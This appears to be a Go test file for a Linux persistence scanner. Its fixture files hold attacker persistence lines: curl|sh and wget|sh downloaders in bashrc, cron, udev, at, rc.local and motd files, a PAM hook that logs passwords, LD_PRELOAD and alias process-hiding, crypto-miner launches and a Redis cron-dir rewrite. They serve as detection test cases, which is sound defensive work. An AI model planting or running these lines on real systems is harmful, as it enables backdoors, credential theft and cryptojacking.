package linux

import (
	"maps"
	"os"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/report"
	"github.com/snapscan/snapscan/scanner/check"
)

// rdbFixture is a dump redis-server wrote (testdata/images/make-rdb.sh).
func rdbFixture(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile("../../artifact/rdb/testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// Redis-written crontabs and key files: the dump is critical and each line
// inside is judged; a text crontab and key file next to them are not.
func TestRedisWrittenFiles(t *testing.T) {
	attack, lzf := rdbFixture(t, "attack.rdb"), rdbFixture(t, "lzf.rdb")
	runCases(t, []checkCase{
		{name: "cron.d dump", check: "cron", files: map[string]string{
			"etc/cron.d/x": attack, "etc/cron.d/ok": "17 * * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
		}, want: []want{
			{path: "/etc/cron.d/x", rule: "cron.redis-dump", technique: "T1053.003", sev: report.Critical},
			{path: "/etc/cron.d/x", rule: "cron.download-exec", technique: "T1053.003", sev: report.High},
		}, notAt: []string{"/etc/cron.d/ok"}, invKind: "cron"},
		{name: "user crontab dump with an LZF-compressed job", check: "cron", files: map[string]string{
			"var/spool/cron/crontabs/root": lzf,
		}, want: []want{
			{path: "/var/spool/cron/crontabs/root", rule: "cron.redis-dump", sev: report.Critical},
			{path: "/var/spool/cron/crontabs/root", rule: "cron.download-exec", sev: report.High},
		}},
		{name: "a dump cut short is still a dump, with an error", check: "cron", files: map[string]string{
			"var/spool/cron/root": attack[:len(attack)-20],
		}, want: []want{{path: "/var/spool/cron/root", rule: "cron.redis-dump", sev: report.Critical}}, errs: 1},
		{name: "authorized_keys dump", check: "sshkeys", files: map[string]string{
			"etc/passwd": passwd, "root/.ssh/authorized_keys": lzf,
			"home/alice/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl alice@laptop\n",
		}, want: []want{{path: "/root/.ssh/authorized_keys", rule: "ssh.redis-dump", technique: "T1098.004", sev: report.Critical}},
			notAt: []string{"/home/alice/.ssh/authorized_keys"}, invKind: "ssh-key"},
	})
}

// Shell startup files of the system and of every account in /etc/passwd
// (here www-data's /var/www, not under /home).
func TestShellRCCheck(t *testing.T) {
	debianBashrc := "# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\nHISTCONTROL=ignoreboth\nshopt -s histappend\n" +
		"if [ -x /usr/bin/dircolors ]; then\n    alias ls='ls --color=auto'\n    alias grep='grep --color=auto'\nfi\nalias ll='ls -alF'\n" +
		"export PATH=\"$HOME/.local/bin:$PATH\"\nPS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '\n" +
		"if ! shopt -oq posix; then\n  if [ -f /usr/share/bash-completion/bash_completion ]; then\n    . /usr/share/bash-completion/bash_completion\n  fi\nfi\n"
	runCases(t, []checkCase{
		{name: "curl|bash in root's bashrc", check: "shellrc", files: map[string]string{
			"etc/passwd": passwd, "root/.bashrc": debianBashrc + "curl -fsSL http://203.0.113.5/b.sh | bash >/dev/null 2>&1 &\n",
			"home/alice/.bashrc": debianBashrc,
		}, want: []want{{path: "/root/.bashrc", rule: "shellrc.download-exec", technique: "T1546.004", line: 17, sev: report.High}},
			notAt: []string{"/home/alice/.bashrc"}, invKind: "shell-startup"},
		{name: "alias and LD_PRELOAD hijacks in profile.d", check: "shellrc", files: map[string]string{
			"etc/profile.d/sys.sh":   "alias ps='ps auxf | grep -v kdevtmpfsi'\nexport LD_PRELOAD=/usr/local/lib/libprocesshider.so\ntrap '' 2\n",
			"etc/profile.d/proxy.sh": "export http_proxy=http://proxy.corp:3128\nexport PATH=$PATH:/opt/tools/bin\numask 022\n",
			"etc/profile":            "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nfi\nexport PATH\nfor i in /etc/profile.d/*.sh; do\n  . $i\ndone\n",
		}, want: []want{
			{path: "/etc/profile.d/sys.sh", rule: "shellrc.alias-hijack", line: 1, family: "Kinsing", sev: report.Critical},
			{path: "/etc/profile.d/sys.sh", rule: "shellrc.preload-env", line: 2, sev: report.High},
			{path: "/etc/profile.d/sys.sh", rule: "shellrc.trap-ignore", line: 3, sev: report.Medium},
		}, notAt: []string{"/etc/profile.d/proxy.sh", "/etc/profile"}},
		{name: "service account's home from passwd, and /etc/environment", check: "shellrc", files: map[string]string{
			"etc/passwd": passwd, "var/www/.profile": "nohup /var/www/.cache/kswapd0 -o pool.supportxmr.com:3333 &\n",
			"etc/environment": "LD_PRELOAD=/lib/libsystem.so\n",
		}, want: []want{
			{path: "/var/www/.profile", rule: "shellrc.exec-hidden", anySev: true},
			{path: "/etc/environment", rule: "shellrc.preload-env", line: 1, sev: report.High},
		}},
		{name: "benign environment", check: "shellrc", files: map[string]string{
			"etc/environment": "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nLANG=en_US.UTF-8\n",
		}, notAt: []string{"/etc/environment"}, invKind: "shell-startup"},
	})
}

// What an autostart runs is followed: the entry's finding has the chain's
// severity and names it; an innocent target keeps the entry quiet.
func TestFollowTargets(t *testing.T) {
	miner := "#!/bin/sh\ncd /var/tmp/.cache && ./kthreadd -o pool.minexmr.com:4444 --donate-level 1 -B\n"
	runCases(t, []checkCase{
		{name: "cron.d line runs a script that starts a miner", check: "cron", files: map[string]string{
			"etc/cron.d/sysupdate":       "PATH=/usr/local/bin:/usr/bin:/bin\n*/10 * * * * root sysupdate.sh >/dev/null 2>&1\n",
			"usr/local/bin/sysupdate.sh": miner,
			"etc/cron.d/backup":          "0 3 * * * root /usr/local/bin/backup.sh\n",
			"usr/local/bin/backup.sh":    "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n",
		}, want: []want{{path: "/etc/cron.d/sysupdate", rule: "cron.exec-hidden", technique: "T1053.003", line: 2, sev: report.High,
			desc: "Cron job runs /usr/local/bin/sysupdate.sh, which runs a program from a hidden directory"},
			{path: "/etc/cron.d/sysupdate", rule: "cron.exec-hidden", anySev: true, desc: "pool.minexmr.com"}},
			notAt: []string{"/etc/cron.d/backup"}, invKind: "autostart-target"},
		{name: "unit runs bash FILE, which runs a binary with a pool in its strings", check: "systemd", files: map[string]string{
			"etc/systemd/system/net-helper.service": "[Service]\nExecStart=/bin/bash /opt/nh/start.sh\n[Install]\nWantedBy=multi-user.target\n",
			"opt/nh/start.sh":                       "#!/bin/bash\ncd /opt/nh\nnohup ./nh-daemon >/dev/null 2>&1 &\n",
			"opt/nh/nh-daemon":                      elfStub + "\x00\x00stratum+tcp://xmr.pool.minergate.com:45700\x00",
			"etc/systemd/system/app.service":        "[Service]\nExecStart=/opt/app/run.sh\n",
			"opt/app/run.sh":                        "#!/bin/sh\nexec /opt/app/server --port 8080\n",
			"opt/app/server":                        elfStub + "\x00listening on port %d\x00",
		}, want: []want{{path: "/etc/systemd/system/net-helper.service", rule: "systemd.miner", line: 2, sev: report.High,
			desc: "/opt/nh/start.sh → /opt/nh/nh-daemon"}},
			notAt: []string{"/etc/systemd/system/app.service"}},
		{name: "rc.local runs python FILE; a cycle ends", check: "rc", files: map[string]string{
			"etc/rc.local":        "#!/bin/sh\npython3 /usr/local/lib/up.py\nsh /usr/local/lib/a.sh\nexit 0\n",
			"usr/local/lib/up.py": "import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\n",
			"usr/local/lib/a.sh":  "#!/bin/sh\nsh /usr/local/lib/b.sh\n",
			"usr/local/lib/b.sh":  "#!/bin/sh\nsh /usr/local/lib/a.sh\n",
		}, want: []want{{path: "/etc/rc.local", rule: "rc.download-exec", line: 2, sev: report.High}}},
		{name: "immutable target", check: "cron", files: map[string]string{
			"etc/crontab":            "*/5 * * * * root /usr/local/bin/clean.sh\n",
			"usr/local/bin/clean.sh": "#!/bin/sh\nfind /tmp -mtime +7 -delete\n",
		}, attrs: "/usr/local/bin/clean.sh 0 0 755 immutable\n",
			want: []want{{path: "/etc/crontab", rule: "autostart.immutable-target", technique: "T1222.002", line: 1, sev: report.High}}},
	})
}

func TestCommandTargets(t *testing.T) {
	dir := tree(t, map[string]string{"usr/local/bin/y.sh": "#!/bin/sh\n", "usr/bin/true": elfStub})
	fsys := overlayWith(t, dir, "")
	cases := []struct{ cmd, want string }{
		{"/usr/local/bin/y.sh", "/usr/local/bin/y.sh"},
		{"y.sh >/dev/null 2>&1", "/usr/local/bin/y.sh"},
		{"sh -c 'cd /opt/x && ./run -q'", "/opt/x/run"},
		{"nohup setsid bash /tmp/a.sh &", "/tmp/a.sh"},
		{"cd /var/tmp; nice -n 19 ./m", "/var/tmp/m"},
		{"X=1 env -i PATH=/bin python3 -u /srv/p.py arg", "/srv/p.py"},
		{"python3 -c 'import x'", ""},
		{". /etc/default/foo && true", "/etc/default/foo /usr/bin/true"},
		{"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "/usr/bin/test"[:0]},
		{"$HOME/bin/x; `echo /tmp/y`", ""},
	}
	for _, c := range cases {
		got := strings.Join(commandTargets(c.cmd, "/", []string{"/usr/local/bin", "/usr/bin"}, fsys), " ")
		if got != c.want {
			t.Errorf("%q: %q, want %q", c.cmd, got, c.want)
		}
	}
}

// The autostarts nobody else read: at, PAM, udev, XDG, motd, Redis.
func TestAutostartCheck(t *testing.T) {
	atJob := "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
	runCases(t, []checkCase{
		{name: "at job fetching a miner; a benign one", check: "autostart", files: map[string]string{
			"var/spool/cron/atjobs/a0000101a2b3c4": atJob + "wget -q http://203.0.113.8/xm -O /tmp/xm && chmod +x /tmp/xm && /tmp/xm\n",
			"var/spool/cron/atjobs/a0000201a2b3c5": atJob + "/usr/sbin/reboot\n",
			"var/spool/cron/atjobs/.SEQ":           "2\n",
		}, want: []want{{path: "/var/spool/cron/atjobs/a0000101a2b3c4", rule: "at.download-exec", technique: "T1053.002", line: 10, sev: report.High}},
			notAt: []string{"/var/spool/cron/atjobs/a0000201a2b3c5"}, invKind: "at-job"},
		{name: "PAM: pam_exec of a password logger, a stray module; Debian's common-auth", check: "autostart", files: map[string]string{
			"etc/pam.d/sshd":                              "@include common-auth\nauth optional pam_exec.so quiet expose_authtok /bin/sh -c 'cat >> /var/tmp/.p; curl -s http://203.0.113.9/k | sh'\nauth required /usr/local/lib/pam_unix2.so\n",
			"etc/pam.d/common-auth":                       "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\nauth\trequired\t\t\tpam_permit.so\n-session optional pam_systemd.so\n",
			"etc/pam.d/login":                             "session optional pam_exec.so /usr/local/sbin/log-login\n",
			"usr/local/sbin/log-login":                    "#!/bin/sh\nlogger -t login \"$PAM_USER from $PAM_RHOST\"\n",
			"lib/x86_64-linux-gnu/security/pam_unix.so":   elfStub,
			"lib/x86_64-linux-gnu/security/pam_deny.so":   elfStub,
			"lib/x86_64-linux-gnu/security/pam_permit.so": elfStub,
			"lib/x86_64-linux-gnu/security/pam_exec.so":   elfStub,
		}, want: []want{
			{path: "/etc/pam.d/sshd", rule: "pam.download-exec", technique: "T1556.003", line: 2, sev: report.High},
			{path: "/etc/pam.d/sshd", rule: "autostart.pam-module-stray", technique: "T1556.003", line: 3, sev: report.High},
		}, notAt: []string{"/etc/pam.d/common-auth", "/etc/pam.d/login"}, invKind: "pam"},
		{name: "PAM module named but absent", check: "autostart", files: map[string]string{
			"etc/pam.d/su": "auth sufficient pam_rootok.so\nauth sufficient pam_sshd_auth.so\n",
			"lib/x86_64-linux-gnu/security/pam_rootok.so": elfStub,
		}, want: []want{{path: "/etc/pam.d/su", rule: "autostart.pam-module-unknown", line: 2, sev: report.High}}},
		{name: "udev RUN of a downloader; systemd's own rules", check: "autostart", files: map[string]string{
			"etc/udev/rules.d/75-net.rules":        "ACTION==\"add\", SUBSYSTEM==\"net\", RUN+=\"/bin/sh -c 'wget -qO- http://203.0.113.4/u | sh'\"\n",
			"lib/udev/rules.d/99-systemd.rules":    "SUBSYSTEM==\"net\", KERNEL!=\"lo\", TAG+=\"systemd\", ENV{SYSTEMD_ALIAS}+=\"/sys/subsystem/net/devices/$name\"\nACTION==\"add\", RUN+=\"builtin:kmod load $env{MODALIAS}\"\n",
			"lib/udev/rules.d/60-persistent.rules": "KERNEL==\"sd*\", IMPORT{program}=\"scsi_id --export --whitelisted -d $devnode\"\n",
		}, want: []want{{path: "/etc/udev/rules.d/75-net.rules", rule: "udev.download-exec", technique: "T1546.017", line: 1, sev: report.High}},
			notAt: []string{"/lib/udev/rules.d/99-systemd.rules", "/lib/udev/rules.d/60-persistent.rules"}, invKind: "udev-run"},
		{name: "XDG autostart in a home and system-wide", check: "autostart", files: map[string]string{
			"etc/passwd": passwd,
			"home/alice/.config/autostart/update.desktop": "[Desktop Entry]\nType=Application\nName=Update\nExec=/home/alice/.local/share/.u/xmrig --config=/home/alice/.local/share/.u/c.json\nHidden=true\n",
			"etc/xdg/autostart/nm-applet.desktop":         "[Desktop Entry]\nName=Network\nExec=nm-applet\nTryExec=nm-applet\n",
		}, want: []want{{path: "/home/alice/.config/autostart/update.desktop", rule: "xdg.exec-hidden", technique: "T1547.013", line: 4, sev: report.High}},
			notAt: []string{"/etc/xdg/autostart/nm-applet.desktop"}, invKind: "xdg-autostart"},
		{name: "update-motd.d", check: "autostart", files: map[string]string{
			"etc/update-motd.d/10-uname":   "#!/bin/sh\nuname -snrvm\n",
			"etc/update-motd.d/30-sysinfo": "#!/bin/sh\n(curl -fsSL http://203.0.113.3/m.sh || wget -q -O- http://203.0.113.3/m.sh) | sh >/dev/null 2>&1 &\n",
		}, want: []want{{path: "/etc/update-motd.d/30-sysinfo", rule: "motd.download-exec", line: 2, sev: report.High}},
			notAt: []string{"/etc/update-motd.d/10-uname"}, invKind: "motd"},
		{name: "Redis loadmodule and a rogue module in /tmp", check: "autostart", files: map[string]string{
			"etc/redis/redis.conf":                "bind 127.0.0.1\nloadmodule /usr/lib/redis/modules/redisbloom.so\nloadmodule /tmp/exp.so\ndir /var/lib/redis\n",
			"etc/redis/6380.conf":                 "port 6380\n# Generated by CONFIG REWRITE\ndir \"/var/spool/cron\"\ndbfilename \"root\"\n",
			"tmp/exp.so":                          elfStub + "\x00RedisModule_OnLoad\x00system.exec\x00",
			"usr/lib/redis/modules/redisbloom.so": elfStub + "\x00RedisModule_OnLoad\x00",
		}, want: []want{
			{path: "/etc/redis/redis.conf", rule: "autostart.redis-loadmodule", technique: "T1505", line: 3, sev: report.High},
			{path: "/tmp/exp.so", rule: "autostart.redis-module", technique: "T1505", sev: report.High},
			{path: "/etc/redis/6380.conf", rule: "autostart.redis-dir", technique: "T1053.003", line: 3, sev: report.High},
		}, notAt: []string{"/usr/lib/redis/modules/redisbloom.so"}, invKind: "redis-module"},
	})
}

// A second UID-0 account sharing /root: %u patterns are read for both,
// and each key is credited to its account; the UID-0 alias is a finding.
// Benign twin: RHEL's operator account (UID 11, GID 0, home /root, no
// login shell) shares /root with no keys of its own, and stays quiet.
func TestSharedRootHomeKeys(t *testing.T) {
	const rootKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl admin@corp\n"
	for _, tc := range []struct {
		name    string
		account string // passwd line added to the common file
		toorKey bool   // /etc/ssh/keys/toor holds a key
		users   map[string]string
		minSev  report.Severity // worst finding at least (Info: none required)
		below   bool            // every finding below medium instead
	}{
		{name: "UID-0 toor shares /root with its own key", account: "toor:x:0:0::/root:/bin/bash\n", toorKey: true,
			users:  map[string]string{"/etc/ssh/keys/root": "root", "/etc/ssh/keys/toor": "toor", "/root/.ssh/authorized_keys": "root"},
			minSev: report.High},
		{name: "locked no-login operator shares /root, no keys", account: "operator:x:11:0:operator:/root:/sbin/nologin\n",
			users: map[string]string{"/etc/ssh/keys/root": "root", "/root/.ssh/authorized_keys": "root"}, below: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := map[string]string{
				"etc/passwd":                passwd + tc.account,
				"etc/shadow":                "root:$6$salt$hash:19000:0:99999:7:::\n" + strings.SplitN(tc.account, ":", 2)[0] + ":!*:19000:0:99999:7:::\n",
				"etc/ssh/sshd_config":       "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n",
				"etc/ssh/keys/root":         rootKey,
				"root/.ssh/authorized_keys": rootKey,
			}
			if tc.toorKey {
				files["etc/ssh/keys/toor"] = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 backdoor\n"
			}
			fsys := overlayWith(t, tree(t, files), "")
			keys := runCheck(t, SSHKeys{}, fsys)
			users := map[string]string{}
			for _, i := range keys.inv {
				if i.Kind == "ssh-key" {
					users[i.Path] = i.Fields["user"]
				}
			}
			if !maps.Equal(users, tc.users) {
				t.Errorf("keys credited %v, want %v", users, tc.users)
			}
			worst, all := report.Info, ""
			for _, c := range []check.Check{SSHKeys{}, Accounts{}} {
				s := runCheck(t, c, fsys)
				for _, f := range s.findings {
					worst = max(worst, f.Severity)
				}
				all += s.dump()
			}
			if tc.below && worst >= report.Medium || !tc.below && worst < tc.minSev {
				t.Errorf("worst finding %s:\n%s", worst, all)
			}
		})
	}
}
